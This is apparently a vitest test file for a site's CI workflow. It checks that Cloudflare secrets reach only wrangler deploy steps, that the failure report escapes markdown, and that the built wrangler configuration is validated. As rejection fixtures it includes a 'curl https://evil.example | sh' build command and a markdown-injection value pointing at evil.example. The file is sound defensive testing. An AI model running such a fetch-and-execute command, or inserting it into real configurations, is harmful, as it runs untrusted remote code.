import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import type { Code, InlineCode, Root } from "mdast";
import remarkParse from "remark-parse";
import { unified } from "unified";
import { visit } from "unist-util-visit";
import { describe, expect, it } from "vitest";
import { builtConfigProblems } from "./check-built-config.ts";
import { type WorkflowStep, readWorkflow, runJob } from "./lib/workflow.ts";

/*
 * What the CI workflow (.github/workflows/ci.yml) promises docs/deploying.md and docs/security.md: which
 * steps see a Cloudflare token, what the jobs that hold one install, what gates a deploy, and how the
 * failure report quotes what a push wrote. The editor check's job is run in check-editor-push.test.ts.
 */

const workflow = readWorkflow();
const jobs = Object.entries(workflow.jobs);
const SECRET = /\$\{\{[^}]*\bsecrets\./;
const CLOUDFLARE_SECRET = /\$\{\{\s*secrets\.CLOUDFLARE_/;

/** The commands that act on Cloudflare with a token: wrangler itself on the built configuration, never an npm script of the push. */
const WRANGLER_WITH_TOKEN =
  /^npx wrangler (?:d1 migrations apply DB --remote|deploy|versions upload) -c dist\/worker\/wrangler\.json(?: |$)/;

/** A file of this repository and every file of it that it imports, however deep (Node's own modules aside). */
function importsOf(path: string, found = new Set<string>()): string[] {
  found.add(path);
  const source = readFileSync(join(import.meta.dirname, "..", path), "utf8");
  for (const [, target] of source.matchAll(/^import [^;]*?from "(\.{1,2}\/[^"]+)";$/gms)) {
    const file = relative(join(import.meta.dirname, ".."), join(import.meta.dirname, "..", dirname(path), target!));
    if (!found.has(file)) importsOf(file, found);
  }
  return [...found];
}

const sees = (step: WorkflowStep, pattern: RegExp) => Object.values(step.env ?? {}).some((value) => pattern.test(value));

describe("the CI workflow", () => {
  it("hands a Cloudflare token only to the wrangler steps of the jobs that deploy", () => {
    expect(JSON.stringify(workflow.env ?? {})).not.toMatch(SECRET);
    const holders: string[] = [];
    for (const [name, job] of jobs) {
      expect(JSON.stringify(job.env ?? {}), name).not.toMatch(SECRET);
      for (const step of job.steps) {
        expect(step.run ?? "", `${name}: a secret written into a script`).not.toMatch(SECRET);
        if (!sees(step, CLOUDFLARE_SECRET)) continue;
        expect(step.run ?? step.uses, `${name} hands a Cloudflare token to`).toMatch(WRANGLER_WITH_TOKEN);
        holders.push(`${name}: ${step.run!.split(" ").slice(0, 3).join(" ")}`);
      }
    }
    expect(holders).toEqual([
      "deploy: npx wrangler d1",
      "deploy: npx wrangler deploy",
      "preview: npx wrangler d1",
      "preview: npx wrangler versions",
    ]);
  });

  it("builds in jobs that hold no secret, and hands the build over as an artifact", () => {
    for (const [deploy, build] of [
      ["deploy", "build"],
      ["preview", "build-preview"],
    ] as const) {
      const builder = workflow.jobs[build]!;
      expect(builder.environment, build).toBeUndefined();
      expect(JSON.stringify(builder), build).not.toMatch(SECRET);
      const runs = builder.steps.map((step) => step.run);
      expect(runs, build).toContain("npm run build");
      const upload = builder.steps.find((step) => step.uses?.startsWith("actions/upload-artifact@"));
      const download = workflow.jobs[deploy]!.steps.find((step) => step.uses?.startsWith("actions/download-artifact@"));
      expect(upload?.with?.name, build).toBe(download?.with?.name);
      expect([upload?.with?.path, download?.with?.path], deploy).toEqual(["dist/", "dist/"]);
      expect([workflow.jobs[deploy]!.needs].flat(), deploy).toContain(build);
    }
    const production = workflow.jobs.build!.steps.map((step) => step.run);
    expect(production.indexOf("npm run launch-check")).toBeGreaterThan(production.indexOf("npm run build"));
  });

  it("runs no build and no npm script where a token is: a fresh install of the lockfile, the artifact checked, then wrangler", () => {
    for (const [name, job] of jobs.filter(([, job]) => job.environment)) {
      const runs = job.steps.flatMap((step) => (step.run ? [step.run] : []));
      expect(
        runs.filter((run) => /\bnpm\b/.test(run)),
        name,
      ).toEqual(["npm ci --ignore-scripts --no-audit --no-fund"]);
      const firstHolder = job.steps.findIndex((step) => sees(step, CLOUDFLARE_SECRET));
      const download = job.steps.findIndex((step) => step.uses?.startsWith("actions/download-artifact@"));
      const check = job.steps.findIndex((step) => step.run === "node scripts/check-built-config.ts dist/worker/wrangler.json");
      expect(download, name).toBeGreaterThan(-1);
      expect(check, name).toBeGreaterThan(download);
      expect(check, name).toBeLessThan(firstHolder);
    }
  });

  it("deploys and previews only after the tests and the editor check", () => {
    for (const name of ["deploy", "preview", "build", "build-preview"])
      expect([workflow.jobs[name]!.needs].flat(), name).toEqual(expect.arrayContaining(["editor-check", "test"]));
  });

  it("runs the editor check from the copy it takes of the trusted commit: the check and all it imports", () => {
    const steps = workflow.jobs["editor-check"]!.steps;
    const check = steps.find((step) => step.name === "Editor commits change content/ only");
    expect(check?.run).toMatch(/^node "\$RUNNER_TEMP\/trusted-check\/scripts\/check-editor-push\.ts" /);
    const taken = /git archive "\$commit" ([^|]+)\|/
      .exec(steps.find((step) => step.id === "trusted")?.run ?? "")?.[1]
      ?.trim()
      .split(" ");
    expect(taken?.sort()).toEqual(importsOf("scripts/check-editor-push.ts").sort());
  });
});

describe("the failure report", () => {
  /** Runs the report job with `gh` standing in: the body as it would be created. */
  async function reportBody(message: string, problems: string) {
    const bin = mkdtempSync(join(tmpdir(), "gh-"));
    try {
      const gh = join(bin, "gh");
      writeFileSync(gh, `#!/usr/bin/env bash\nwhile [ $# -gt 0 ]; do [ "$1" = --body ] && printf '%s' "$2" > "${bin}/body"; shift; done\n`);
      chmodSync(gh, 0o755);
      const [step] = await runJob(workflow.jobs.report!, {
        cwd: bin,
        env: { PATH: `${bin}:${process.env.PATH}`, GITHUB_REPOSITORY: "meridian/site" },
        expressions: {
          "github.token": "t0k",
          "github.sha": "a".repeat(40),
          "github.event.head_commit.message": message,
          "github.actor": "meridian-site-editor[bot]",
          "github.server_url": "https://github.com",
          "github.repository": "meridian/site",
          "github.run_id": "1",
          "needs.test.outputs.content-problems": problems,
        },
      });
      expect(step?.status, step?.stderr).toBe(0);
      return readFileSync(join(bin, "body"), "utf8");
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
  }

  const nodes = (markdown: string) => {
    const tree = unified().use(remarkParse).parse(markdown) as Root;
    const found: { code: string[]; inline: string[]; types: string[] } = { code: [], inline: [], types: [] };
    visit(tree, (node) => {
      found.types.push(node.type);
      if (node.type === "code") found.code.push((node as Code).value);
      if (node.type === "inlineCode") found.inline.push((node as InlineCode).value);
    });
    return found;
  };

  it("quotes the content check's lines whole, whatever backticks a value holds", async () => {
    const problems = [
      'content/site.yaml:3: name: "```\\n# Heading\\n[link](https://evil.example)" is too long',
      "content/articles/a.md:1: title: ````` @someone ``` <b>bold</b>",
    ].join("\n");
    const body = await reportBody("Update “A” ``` @someone", problems);
    const found = nodes(body);
    expect(found.code).toEqual([problems]);
    expect(found.inline).toEqual(["Update “A” ``` @someone"]);
    expect(found.types).not.toContain("link");
    expect(found.types).not.toContain("heading");
    expect(body.trimEnd().endsWith("Correct these fields (in the browser editor, or the files) and save again.")).toBe(true);
  });

  it("names the commit's headline alone, as code, when the check found nothing to quote", async () => {
    const body = await reportBody("Save `x`\n\nCo-authored-by: someone <s@example.com>", "");
    expect(nodes(body).inline).toEqual(["Save `x`"]);
    expect(body).not.toContain("Co-authored-by");
  });
});

describe("the check of the built configuration", () => {
  const good = {
    main: "index.js",
    no_bundle: true,
    assets: { binding: "ASSETS", directory: "../client" },
    d1_databases: [{ binding: "DB", database_name: "creative-law-site", migrations_dir: "../../migrations" }],
  };

  it("passes the configuration as the build writes it", () => {
    expect(builtConfigProblems(good)).toEqual([]);
  });

  it.each([
    ["a build command", { ...good, build: { command: "curl https://evil.example | sh" } }, "build command"],
    ["containers", { ...good, containers: [{ image: "./Dockerfile" }] }, "containers"],
    ["bundling", { ...good, no_bundle: false }, "no_bundle"],
    ["another module", { ...good, main: "../../node_modules/wrangler/x.js" }, "main module"],
    ["another folder of static files", { ...good, assets: { directory: "/" } }, "static files"],
    ["migrations from elsewhere", { ...good, d1_databases: [{ binding: "DB", migrations_dir: "../../dist" }] }, "migrations"],
  ])("refuses %s", (_name, config, problem) => {
    expect(builtConfigProblems(config).join("\n")).toContain(problem);
  });
});
